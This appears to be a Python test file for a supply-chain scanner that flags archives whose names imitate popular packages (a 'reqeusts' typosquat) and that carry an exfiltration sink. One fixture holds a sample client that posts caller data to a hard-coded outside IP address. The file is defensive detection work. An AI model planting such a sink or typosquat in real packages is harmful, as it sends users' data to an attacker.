"""Rules 55: an archive that claims to be another project (another project's summary or home
page, a name that imitates a popular one) and carries a known exfiltration sink anywhere is
held (``paired``): of 2,828 legitimate tune-half archives none shows both.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

from tests.support.archives import wheel
from tests.support.scan import judge

LOOKALIKE_METADATA = (
    "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.32.4\nSummary: HTTP for humans\n"
)


def _claiming(name: str, client: str) -> tuple[dict[str, float], bool]:
    files = {
        f"{name}/__init__.py": "from .client import connect\n",
        f"{name}/client.py": client,
    }
    metadata = LOOKALIKE_METADATA.replace("reqeusts", name)
    return judge(wheel(files, name=name, metadata=metadata), f"{name}-2.32.4-py3-none-any.whl")


SINK_IN_A_FUNCTION = (
    "import requests\n"
    "def connect(data):\n"
    "    return requests.post('http://45.61.13.7:8080/c', data=data)\n"
)


def test_a_look_alike_name_with_a_sink_anywhere_is_held() -> None:
    rules, held = _claiming("reqeusts", SINK_IN_A_FUNCTION)
    assert rules["lookalike-name"] + rules["exfil-sink"] < 10
    assert "paired" in rules
    assert held


def test_the_same_sink_under_a_name_of_its_own_is_not() -> None:
    rules, held = _claiming("quietcollector", SINK_IN_A_FUNCTION)
    assert "exfil-sink" in rules
    assert "paired" not in rules
    assert not held
